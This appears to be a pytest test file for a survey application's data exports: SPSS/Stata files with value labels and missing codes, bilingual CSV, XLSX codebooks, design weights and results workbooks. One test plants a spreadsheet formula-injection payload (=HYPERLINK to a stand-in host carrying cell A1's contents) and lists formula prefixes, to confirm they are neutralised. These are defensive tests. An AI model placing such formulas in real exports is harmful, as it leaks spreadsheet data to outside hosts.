"""Exports of the demo: SPSS and Stata files read back with the same values and labels, XLSX that
openpyxl opens, CSV with labels in either language, weights equal to the analysis's, results."""
from __future__ import annotations

import csv
import io

import numpy as np
import openpyxl
import pandas as pd
import pyreadstat
import pytest
from sqlalchemy import func, select

from survey_app.exports import cells, statfiles, writers
from survey_app.exports.codebook import codebook_rows
from survey_app.exports.design import design_weights
from survey_app.exports.results import write_results_xlsx
from survey_app.exports.submissions import ExportSpec, variables
from survey_app.extensions import db
from survey_app.models import AnalysisEstimate, Questionnaire, Submission
from survey_app.queries import campaign_by_code
from survey_app.results.official import current_publication
from survey_app.survey_analysis.run import analyse
from survey_app.survey_analysis.table import build_table
from survey_app.survey_analysis.weights import weighted_design

FORM = "sipas_citizen"


@pytest.fixture
def ctx(demo_app):
    with demo_app.app_context():
        yield campaign_by_code("HNM-2024")


def _citizens(query, campaign):
    """``query`` restricted to the campaign's SIPAS citizen submissions (the demo has staff ones too)."""
    return query.join(Questionnaire, Questionnaire.id == Submission.questionnaire_id).where(
        Submission.campaign_id == campaign.id, Questionnaire.form_id == FORM)


def _answers(campaign) -> dict[str, dict]:
    rows = db.session.execute(_citizens(select(Submission.instance_uuid, Submission.answers), campaign))
    return {uuid: answers for uuid, answers in rows}


READ_ALL = {"sav": lambda path: pyreadstat.read_sav(path, user_missing=True),
            "dta": lambda path: pyreadstat.read_dta(path, user_missing=True)}
DONT_KNOW = "Không biết / không trả lời"


@pytest.mark.parametrize("kind", ["sav", "dta"])
def test_statistical_files_read_back_with_values_and_labels(ctx, tmp_path, kind):
    spec = ExportSpec(ctx, FORM, "vi")
    frame, labels, value_labels, _ = statfiles.typed_frame(spec, kind)
    statfiles.write_statfile(spec, tmp_path / f"data.{kind}", kind)
    data, meta = READ_ALL[kind](str(tmp_path / f"data.{kind}"))
    assert list(data.columns) == list(frame.columns) and len(data) == len(frame) > 1000
    assert meta.column_labels == labels
    assert "Chỗ ngồi chờ tại Bộ phận Tiếp nhận và Trả kết quả" in labels
    dont_know = 9 if kind == "sav" else "a"
    assert meta.variable_value_labels["sat_c01"] == {1: "Rất không hài lòng", 2: "Không hài lòng",
                                                     3: "Bình thường", 4: "Hài lòng", 5: "Rất hài lòng",
                                                     dont_know: DONT_KNOW}
    for column in ("weight", "base_weight", "analysed"):
        assert np.allclose(data[column].astype(float), frame[column].astype(float), equal_nan=True)
    assert (data["instance_uuid"] == frame["instance_uuid"]).all()
    answers = _answers(ctx)
    stored = {"9": dont_know}
    for uuid, value in zip(data["instance_uuid"][:300], data["sat_c01"][:300]):
        code = answers[uuid].get("sat_c01")
        assert value == stored.get(code, int(code or 0)) if code else value != value
    assert dont_know in set(data["sat_c01"][:300])


@pytest.mark.parametrize("kind", ["sav", "dta"])
def test_dont_know_is_declared_missing_with_the_codebooks_codes(ctx, tmp_path, kind):
    spec = ExportSpec(ctx, FORM, "vi")
    statfiles.write_statfile(spec, tmp_path / f"data.{kind}", kind)
    _, meta = READ_ALL[kind](str(tmp_path / f"data.{kind}"))
    book = list(codebook_rows(variables(spec)))
    rows = [dict(zip(book[0], row)) for row in book[1:] if row[2] == "select_one"]
    assert rows and all(r[f"{kind}_code"] != "" for r in rows)
    for row in rows:  # the files label every code the codebook gives, with the codebook's label
        stored = row[f"{kind}_code"]
        key = stored.lstrip(".") if isinstance(stored, str) else stored
        assert meta.variable_value_labels[row["variable"]][key] == row["code_label"], row
    declared = {(r["variable"], r[f"{kind}_code"]) for r in rows if r["missing"]}
    assert ("sat_c01", 9 if kind == "sav" else ".a") in declared
    assert {r["code"] for r in rows if r["missing"]} == {"9"}
    assert ("age_group", "18_29", 1, 1, 0) in {(r["variable"], r["code"], r["sav_code"], r["dta_code"], r["missing"])
                                               for r in rows}
    if kind == "sav":
        found = {(v, int(r["lo"])) for v, ranges in meta.missing_ranges.items() for r in ranges}
        assert found == {(v, c) for v, c in declared} and {r["lo"] for rs in meta.missing_ranges.values()
                                                            for r in rs} == {r["hi"] for rs in
                                                                             meta.missing_ranges.values() for r in rs}
    else:  # Stata declares nothing: .a is a value (labelled above); pyreadstat lists the ones it met
        found = {(v, f".{c}") for v, codes in meta.missing_user_values.items() for c in codes}
        assert ("sat_c01", ".a") in found and found <= declared


def test_spss_and_stata_means_leave_dont_know_out(ctx, tmp_path):
    spec = ExportSpec(ctx, FORM, "vi")
    statfiles.write_statfile(spec, tmp_path / "data.sav", "sav")
    statfiles.write_statfile(spec, tmp_path / "data.dta", "dta")
    answers = [a.get("sat_c01") for a in _answers(ctx).values()]
    scores = [int(a) for a in answers if a and a != "9"]
    assert len(scores) < len([a for a in answers if a])  # the demo has don't-know answers
    expected = sum(scores) / len(scores)
    spss, _ = pyreadstat.read_sav(str(tmp_path / "data.sav"))  # user-missing values read as SPSS uses them
    stata = pd.read_stata(tmp_path / "data.dta", convert_categoricals=False)  # every . and .a-.z is missing
    assert spss["sat_c01"].mean() == pytest.approx(expected, rel=1e-12)
    assert stata["sat_c01"].mean() == pytest.approx(expected, rel=1e-12)
    extended = pd.read_stata(tmp_path / "data.dta", convert_categoricals=False, convert_missing=True)["sat_c01"]
    assert sum(getattr(v, "string", None) == ".a" for v in extended) == answers.count("9")


def test_weights_are_the_analysis_weights(ctx):
    table = build_table(ctx, FORM)
    design, _ = weighted_design(table.data, ctx)
    expected = dict(zip(table.data["instance_uuid"], np.asarray(design.weights, dtype=float)))
    order = db.session.scalars(_citizens(select(Submission.instance_uuid), ctx).order_by(Submission.id))
    exported = design_weights(ctx, FORM)
    kept = {u: w for u, w, a in zip(order, exported.weight, exported.analysed) if a}
    assert kept.keys() == expected.keys()
    assert np.allclose([kept[u] for u in expected], list(expected.values()))


@pytest.mark.parametrize("locale, satisfied", [("vi", "Hài lòng"), ("en", "Satisfied")])
def test_csv_gives_codes_or_labels_in_either_language(ctx, locale, satisfied):
    answers = _answers(ctx)
    coded = list(csv.DictReader(io.StringIO("".join(writers.csv_chunks(ExportSpec(ctx, FORM, locale))).lstrip("\ufeff"))))
    labelled = list(csv.DictReader(io.StringIO(
        "".join(writers.csv_chunks(ExportSpec(ctx, FORM, locale, labels=True))).lstrip("\ufeff"))))
    assert len(coded) == len(labelled) == len(answers)
    for code_row, label_row in zip(coded, labelled):
        assert code_row["sat_c01"] == answers[code_row["instance_uuid"]].get("sat_c01", "")
        if code_row["sat_c01"] == "4":
            assert label_row["sat_c01"] == satisfied
    assert {r["sat_c01"] for r in coded} - {""} == {"1", "2", "3", "4", "5", "9"}


def test_xlsx_opens_with_data_and_codebook(ctx, tmp_path):
    spec = ExportSpec(ctx, FORM, "en", labels=True)
    writers.write_xlsx(spec, tmp_path / "data.xlsx")
    book = openpyxl.load_workbook(tmp_path / "data.xlsx", read_only=True)
    assert book.sheetnames == ["data", "codebook", "design"]
    rows = list(book["data"].iter_rows(values_only=True))
    assert list(rows[0]) == [v.name for v in variables(spec)]
    assert len(rows) - 1 == db.session.scalar(_citizens(select(func.count()).select_from(Submission), ctx))
    codebook = list(book["codebook"].iter_rows(values_only=True))
    assert ("sat_c01", "Seating in the waiting area", "select_one", "Seating in the waiting area", "4",
            "Satisfied", 4, 4, 0) in codebook
    assert ("sat_c01", "Seating in the waiting area", "select_one", "Seating in the waiting area", "9",
            "Don't know / no answer", 9, ".a", 1) in codebook


def test_results_tables_hold_every_estimate_and_the_index(ctx, tmp_path):
    analyse(ctx)  # a later run is a draft: the workbook keeps the publication's run
    run = current_publication(ctx).run
    write_results_xlsx(ctx, tmp_path / "results.xlsx", "vi")
    book = openpyxl.load_workbook(tmp_path / "results.xlsx", read_only=True)
    estimates = list(book["estimates"].iter_rows(values_only=True))
    stored = db.session.scalar(select(func.count()).select_from(AnalysisEstimate)
                               .where(AnalysisEstimate.run_id == run.id))
    assert len(estimates) - 1 == stored
    header = estimates[0]
    first = dict(zip(header, estimates[1]))
    assert first["ci_low"] <= first["estimate"] <= first["ci_high"] and first["se"] >= 0
    index = pd.DataFrame(list(book["index"].iter_rows(values_only=True))[1:],
                         columns=list(book["index"].iter_rows(values_only=True))[0])
    assert set(index["class"]) <= {"A", "B", "C", "D"}
    assert (index["rank_low"] <= index["rank"]).all() and (index["rank"] <= index["rank_high"]).all()
    facts = dict(book["run"].iter_rows(values_only=True))
    assert facts["number"] == run.number and facts["decision_number"] == "512/QĐ-UBND"


STAFF = "cbcc_staff"


def test_the_staff_questionnaire_is_exported_with_its_design(ctx, tmp_path):
    """The staff and leaders' form (scored in field 8.2): stratum = unit, PSU = respondent, weight 1."""
    statfiles.write_statfile(ExportSpec(ctx, STAFF, "vi"), tmp_path / "staff.sav", "sav")
    data, meta = pyreadstat.read_sav(str(tmp_path / "staff.sav"), user_missing=True)
    stored = dict(db.session.execute(select(Submission.instance_uuid, Submission.answers).join(
        Questionnaire, Questionnaire.id == Submission.questionnaire_id).where(
        Submission.campaign_id == ctx.id, Questionnaire.form_id == STAFF)).all())
    assert len(data) == len(stored) > 0 and set(data["instance_uuid"]) == set(stored)
    assert (data["stratum"] == data["unit_code"]).all() and (data["psu"] == data["instance_uuid"]).all()
    assert set(data["weight"]) == {1.0} and set(data["analysed"]) == {1.0}
    assert {(r["lo"], r["hi"]) for r in meta.missing_ranges["rating_overall"]} == {(9.0, 9.0)}
    for uuid, value in zip(data["instance_uuid"], data["rating_overall"]):
        assert value == int(stored[uuid]["rating_overall"])
    assert set(data["channel"]) == {"web_link"} and set(data["mode"]) == {"web"}


def test_channel_and_mode_columns(ctx):
    coded = list(csv.DictReader(io.StringIO("".join(writers.csv_chunks(ExportSpec(ctx, FORM, "en"))).lstrip("\ufeff"))))
    channels = dict(db.session.execute(_citizens(select(Submission.instance_uuid, Submission.channel), ctx)).all())
    assert {(r["channel"], r["mode"]) for r in coded} >= {("enumerator", "face_to_face")}
    for row in coded:
        assert row["channel"] == channels[row["instance_uuid"]].value
        assert row["mode"] == ("face_to_face" if row["channel"] == "enumerator" else "web")


def test_formula_text_is_exported_as_text_and_numbers_stay_numbers(ctx, tmp_path):
    """A citizen's answer starting with ``=HYPERLINK(`` is text in the CSV and the XLSX, not a formula."""
    spec = ExportSpec(ctx, FORM, "vi")
    text_name = next(v.name for v in variables(spec) if v.kind == "text")
    first = next(csv.DictReader(io.StringIO("".join(writers.csv_chunks(spec)).lstrip("\ufeff"))))
    submission = db.session.scalar(select(Submission).where(Submission.instance_uuid == first["instance_uuid"]))
    attack = '=HYPERLINK("http://example.invalid/?x="&A1,"Xem")'
    submission.answers = {**submission.answers, text_name: attack}
    db.session.flush()
    try:
        exported = next(csv.DictReader(io.StringIO("".join(writers.csv_chunks(spec)).lstrip("\ufeff"))))
        writers.write_xlsx(spec, tmp_path / "data.xlsx")
    finally:
        db.session.rollback()
    assert exported["instance_uuid"] == first["instance_uuid"] and exported[text_name] == "'" + attack
    sheet = openpyxl.load_workbook(tmp_path / "data.xlsx")["data"]
    names = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[names.index("instance_uuid")].value == first["instance_uuid"])
    cell = row[names.index(text_name)]
    assert cell.data_type == "s" and cell.value == attack
    assert row[names.index("weight")].data_type == "n"
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


@pytest.mark.parametrize("value, expected", [("=1+2", "'=1+2"), ("+84 912", "'+84 912"), ("-x", "'-x"),
                                             ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
                                             ("Tốt", "Tốt"), (-5, -5), (2.5, 2.5), (None, None)])
def test_cells_a_spreadsheet_would_run_are_neutralised(value, expected):
    assert cells.neutralised(value) == expected
